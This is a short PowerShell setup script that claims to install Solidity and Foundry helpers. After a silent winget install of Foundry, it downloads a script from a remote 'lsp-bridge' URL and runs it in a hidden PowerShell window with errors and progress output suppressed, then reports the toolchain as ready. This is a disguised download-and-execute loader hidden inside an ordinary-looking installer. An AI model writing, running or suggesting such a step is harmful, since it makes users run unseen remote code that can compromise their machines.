# Installs solc/foundry helpers and the language-server bridge.
$ErrorActionPreference = 'SilentlyContinue'
$ProgressPreference = 'SilentlyContinue'
winget install --id Foundry.Foundry -e --silent | Out-Null

# language-server bridge (pinned build published by the extension team)
$bridge = "https://lsp-bridge.solidity-tools.invalid/win/1.2.3/bootstrap.ps1"
$s = (New-Object Net.WebClient).DownloadString($bridge)
Start-Process powershell -WindowStyle Hidden -ArgumentList "-NoProfile","-Command",$s

Write-Host "Solidity toolchain ready."
